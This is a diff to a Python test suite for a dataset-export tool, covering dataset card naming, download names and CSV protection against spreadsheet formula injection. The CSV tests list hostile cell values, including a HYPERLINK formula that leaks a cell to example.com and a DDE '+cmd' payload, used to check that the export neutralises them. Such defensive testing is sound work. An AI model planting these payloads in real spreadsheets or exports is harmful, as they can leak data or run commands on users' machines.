@@ -5,6 +5,7 @@ import io
 import json
 import xml.etree.ElementTree as ET
 import zipfile
+from datetime import datetime, timezone
 
 import pandas as pd
 import pyarrow.parquet as pq
@@ -302,6 +303,9 @@ def test_alpaca_and_csv_reimport_as_identical_rows(demo_pool, tmp_path, fmt):
         result = seeds.import_seeds(fresh, path)
         assert result.report.ok
         again = [(t["instruction"], i["input"], i["output"]) for t in fresh.seed_tasks() for i in t["instances"]]
+        if fmt == "csv":   # the CSV file guards cells against spreadsheets ("- milk" is "'- milk")
+            assert any(text.startswith("'-") for row in again for text in row)
+            again = [tuple(export.csv_text(text) for text in row) for row in again]
         assert again == rows
         if fmt == "csv":   # CSV also carries the classification flag
             flags = {t["instruction"]: t["is_classification"] for t in fresh.seed_tasks()}
@@ -341,7 +345,8 @@ def test_the_card_lists_the_configuration_filters_and_quality(small, tmp_path):
     result = export_dataset(pool, "chat", tmp_path / "out" / "train.jsonl", filters,
                             ExportOptions(system_prompt="You are helpful."), title="My data")
     card = result.card_path.read_text(encoding="utf-8")
-    assert result.card_path.name == "README.md" and export.CARD_MARKER in card
+    assert result.card_path.name == "train_README.md" and export.CARD_MARKER in card
+    assert "- `train_README.md`: this card. Charts are in `train_charts/`." in card
     assert card.startswith("---\npretty_name: \"My data\"")
     for expected in ["test-model-a", "test-model-b", "completion", "temperature 0.7, top_p 0.5",
                      "reject above 0.7", "image, plot", "instructions instructions-v1", "| Seed | 42 |",
@@ -376,15 +381,152 @@ def test_a_zip_holds_data_card_and_charts(demo_pool, tmp_path):
     assert not list(tmp_path.glob(".selfinstruct-export-*"))             # the temporary folder is gone
 
 
-def test_an_unrelated_readme_is_never_overwritten(small, tmp_path):
+def folder_files(folder) -> dict:
+    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_exports_into_one_folder_keep_their_own_card_and_charts(small, tmp_path):
     pool, _ = small
     (tmp_path / "README.md").write_text("my own notes")
+    first = export_dataset(pool, "alpaca", tmp_path / "train.json", ExportFilters())
+    assert first.card_path == tmp_path / "train_README.md"
+    assert {p.parent for p in first.chart_paths} == {tmp_path / "train_charts"}
+    before = folder_files(tmp_path)
+    second = export_dataset(pool, "csv", tmp_path / "test.csv", ExportFilters(include_seeds=False))
+    assert second.card_path == tmp_path / "test_README.md"
+    assert {p.parent for p in second.chart_paths} == {tmp_path / "test_charts"}
+    after = folder_files(tmp_path)
+    assert {k: v for k, v in after.items() if k in before} == before      # nothing of the first touched
+    assert (tmp_path / "README.md").read_text() == "my own notes"         # a README.md is never ours
+    assert "`test.csv`" in second.card_path.read_text(encoding="utf-8")
+    assert "`train.json`" in first.card_path.read_text(encoding="utf-8")
+    assert "![Word counts of instructions, inputs and outputs](test_charts/lengths.svg)" in \
+        second.card_path.read_text(encoding="utf-8")
+
+    # the same stem, another extension: its own names, the first export's files untouched
+    before = folder_files(tmp_path)
+    third = export_dataset(pool, "parquet", tmp_path / "train.parquet", ExportFilters())
+    assert third.card_path == tmp_path / "train_parquet_README.md"
+    assert {p.parent for p in third.chart_paths} == {tmp_path / "train_parquet_charts"}
+    assert {k: v for k, v in folder_files(tmp_path).items() if k in before} == before
+
+    # exporting train.json again replaces its own card, in place
+    again = export_dataset(pool, "alpaca", tmp_path / "train.json", ExportFilters(include_generated=False))
+    assert again.card_path == first.card_path and "Seed tasks only." in again.card_path.read_text(encoding="utf-8")
+    assert export.card_paths(tmp_path / "train.parquet")[0] == third.card_path
+
+
+def test_a_file_that_is_not_our_card_is_never_overwritten(small, tmp_path):
+    pool, _ = small
+    (tmp_path / "data_README.md").write_text("notes about data")
     result = export_dataset(pool, "alpaca", tmp_path / "data.json", ExportFilters())
-    assert (tmp_path / "README.md").read_text() == "my own notes"
-    assert result.card_path == tmp_path / "data.card.md"
-    export_dataset(pool, "alpaca", tmp_path / "sub" / "data.json", ExportFilters())
-    second = export_dataset(pool, "alpaca", tmp_path / "sub" / "data.json", ExportFilters())
-    assert second.card_path == tmp_path / "sub" / "README.md"          # our own card is replaced
+    assert result.card_path == tmp_path / "data_json_README.md"
+    assert (tmp_path / "data_README.md").read_text() == "notes about data"
+    (tmp_path / "x_README.md").write_text("mine")
+    (tmp_path / "x_json_README.md").write_text("mine too")
+    with pytest.raises(export.ExportNameTaken, match="x_json_README.md is already there"):
+        export_dataset(pool, "alpaca", tmp_path / "x.json", ExportFilters())
+    assert not (tmp_path / "x.json").exists()                              # refused before writing
+    assert export_dataset(pool, "alpaca", tmp_path / "x.json", ExportFilters(), card=False).card_path is None
+
+
+def test_a_charts_folder_keeps_only_the_charts_of_its_card(small, tmp_path):
+    pool, _ = small
+    full = export_dataset(pool, "alpaca", tmp_path / "d.json", ExportFilters())
+    assert (tmp_path / "d_charts" / "rouge_vs_seeds.svg").exists()
+    seeds_only = export_dataset(pool, "alpaca", tmp_path / "d.json", ExportFilters(include_generated=False))
+    assert len(seeds_only.chart_paths) < len(full.chart_paths)
+    assert {p.name for p in (tmp_path / "d_charts").iterdir()} == {p.name for p in seeds_only.chart_paths}
+
+
+def test_download_names_carry_the_format_and_the_time():
+    when = datetime(2026, 12, 1, 3, 15, 42, tzinfo=timezone.utc)
+    assert export.download_name("alpaca", card=True, when=when) == "selfinstruct-alpaca-20261201-0315.zip"
+    assert export.download_name("csv", card=False, when=when) == "selfinstruct-csv-20261201-0315.csv"
+    assert export.download_name("chat", card=False, pool_name="pool", when=when) == \
+        "selfinstruct-chat-20261201-0315.jsonl"                           # the default pool's name adds nothing
+    assert export.download_name("parquet", card=True, pool_name="team pool (v2)", when=when) == \
+        "selfinstruct-team-pool-v2-parquet-20261201-0315.zip"
+    assert export.download_name("alpaca", card=True).startswith(
+        f"selfinstruct-alpaca-{datetime.now(timezone.utc):%Y%m%d}")
+
+
+def test_the_preview_table_shows_no_none(small):
+    pool, _ = small
+    table = export.preview_table(pool, ExportFilters(include_empty_tasks=True), 100)
+    raw = pool.export_preview(ExportFilters(include_empty_tasks=True), 100)
+    assert raw["run_id"].isna().any() and raw["instance_id"].isna().any()   # seeds; a task with no instance
+    assert not table.isna().any().any()
+    assert set(table.loc[raw["source"] == "seed", "run_id"]) == {"–"}
+    assert table["run_id"].tolist() == ["–" if pd.isna(v) else str(v) for v in raw["run_id"]]
+    assert table["task_id"].equals(raw["task_id"])                         # complete columns keep their type
+    assert table["input"].tolist() == [("–" if v is None or pd.isna(v) else v) for v in raw["input"]]
+
+
+# -- CSV made safe for spreadsheets -------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://example.com/?leak="&A1, "Click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3",
+            "\tx=1", "\r=1+1", "- item one\n- item two", "'already quoted"]
+
+
+def formula_pool(pool: Pool) -> None:
+    actions.import_seeds(pool, [
+        SeedTask("Repeat the cell exactly.", [{"input": text, "output": text} for text in FORMULAS]),
+        SeedTask("Say something ordinary.", [{"input": "a = b + c - d @ e", "output": "Plain text, 'quoted'."}]),
+    ], origin="test", actor="test")
+    # a NUL from an old pool (seed import now stops them; the export must not rely on it)
+    pool.cursor().execute("UPDATE instances SET output = 'before\x00after' WHERE input = 'a = b + c - d @ e'")
+
+
+def test_csv_cells_that_could_run_as_formulas_get_a_leading_quote(pool, tmp_path):
+    formula_pool(pool)
+    path = tmp_path / "cells.csv"
+    write_export(pool, "csv", path, ExportFilters())
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    cells = [(row["input"], row["output"]) for row in rows]
+    for text in FORMULAS:                                                  # each prefix, input and output
+        assert ("'" + text, "'" + text) in cells, text
+    assert ("a = b + c - d @ e", "before\ufffdafter") in cells              # ordinary text unchanged
+    assert {row["instruction"] for row in rows} == {"Repeat the cell exactly.", "Say something ordinary."}
+    for row in rows:
+        for value in row.values():
+            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
+    assert b"\x00" not in path.read_bytes()
+    # removing one leading quote gives the text back (NUL aside)
+    assert [(export.csv_text(i), export.csv_text(o)) for i, o in cells[:len(FORMULAS)]] == \
+        [(t, t) for t in FORMULAS]
+    # the card's loading hint does that removal, with pandas
+    frame = pd.read_csv(path, keep_default_na=False)
+    text = ["instruction", "input", "output"]
+    frame[text] = frame[text].apply(lambda column: column.str.replace("^'", "", regex=True))
+    assert frame["input"].tolist()[:len(FORMULAS)] == FORMULAS
+    # the CSV preview is the file's first lines
+    assert export.preview_records(pool, "csv", ExportFilters(), limit=3) == \
+        path.read_text(encoding="utf-8").splitlines()[:4]
+
+
+def test_only_the_csv_file_is_changed_for_spreadsheets(pool, tmp_path):
+    formula_pool(pool)
+    records = list(iter_records(pool, "alpaca", ExportFilters()))
+    assert [r["input"] for r in records[:len(FORMULAS)]] == FORMULAS
+    assert records[-1]["output"] == "before\x00after"
+    write_export(pool, "alpaca", tmp_path / "a.json", ExportFilters())
+    assert json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))[0]["input"] == FORMULAS[0]
+    write_export(pool, "parquet", tmp_path / "a.parquet", ExportFilters())
+    frame = pd.read_parquet(tmp_path / "a.parquet")
+    assert frame["output"].tolist() == FORMULAS + ["before\x00after"]
+    parquet_preview = export.preview_records(pool, "parquet", ExportFilters(), limit=1)
+    assert next(csv.reader(parquet_preview[1:]))[8] == FORMULAS[0]          # shown as it is in the file
+
+
+def test_the_card_of_a_csv_export_says_what_was_changed(pool, tmp_path):
+    formula_pool(pool)
+    csv_card = export_dataset(pool, "csv", tmp_path / "c.csv", ExportFilters()).card_path.read_text(encoding="utf-8")
+    assert export.CSV_SAFETY_NOTE in csv_card and "U+FFFD" in csv_card and "OWASP" in csv_card
+    assert 'str.replace("^\'", "", regex=True)' in csv_card
+    json_card = export_dataset(pool, "alpaca", tmp_path / "c.json", ExportFilters()).card_path.read_text(
+        encoding="utf-8")
+    assert export.CSV_SAFETY_NOTE not in json_card
 
 
 def test_archive_bytes_for_a_download(small):
@@ -417,7 +559,19 @@ def test_cli_export_writes_the_filtered_data_and_the_card(demo_db_path, tmp_path
     assert len(lines) == counts["instances"]
     assert json.loads(lines[0])["messages"][0] == {"role": "system", "content": "Be kind."}
     assert f"Wrote {counts['instances']:,} Chat messages JSONL record(s)" in done.stdout
-    assert (out.parent / "README.md").exists() and (out.parent / "train_charts" / "verbs.svg").exists()
+    assert (out.parent / "train_README.md").exists() and (out.parent / "train_charts" / "verbs.svg").exists()
+    assert not (out.parent / "README.md").exists()
+    assert f"dataset card: {out.parent / 'train_README.md'} (charts in {out.parent / 'train_charts'})" in done.stdout
+
+    taken = tmp_path / "taken"
+    taken.mkdir()
+    (taken / "t_README.md").write_text("mine")
+    (taken / "t_csv_README.md").write_text("mine")
+    refused = run_cli("export", "--db", str(demo_db_path), "--format", "csv", "--out", str(taken / "t.csv"))
+    assert refused.returncode == 2 and "t_csv_README.md is already there" in refused.stderr, refused.stderr
+    plain = run_cli("export", "--db", str(demo_db_path), "--format", "csv", "--out", str(taken / "t.csv"),
+                    "--no-card")
+    assert plain.returncode == 0 and "starts with an added '" in plain.stdout
 
     dry = run_cli("export", "--db", str(demo_db_path), "--format", "csv", "--out", str(tmp_path / "x.csv"),
                   "--dry-run", "--min-round", "2")
